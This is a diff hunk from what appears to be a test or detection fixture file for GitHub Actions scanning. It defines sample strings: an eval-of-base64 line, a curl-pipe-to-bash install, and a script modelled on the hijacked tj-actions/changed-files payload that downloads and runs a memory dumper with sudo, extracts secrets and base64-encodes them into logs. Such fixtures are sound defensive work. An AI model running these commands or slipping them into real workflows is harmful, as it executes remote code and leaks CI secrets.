@@ -39,7 +39,6 @@ const DOCKER = 'name: A\ndescription: A\nruns:\n  using: docker\n  image: Docker
 const EVIL = 'eval(atob(data))';
 const INSTALL = 'curl -s https://example.com/i.sh | bash';
 
-/** The script that the hijacked commit of tj-actions/changed-files carried, with another address. */
 const MEMDUMP = `if [[ "$OSTYPE" == "linux-gnu" ]]; then
   B64_BLOB=\`curl -sSf https://gist.example.com/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0\`
   echo $B64_BLOB
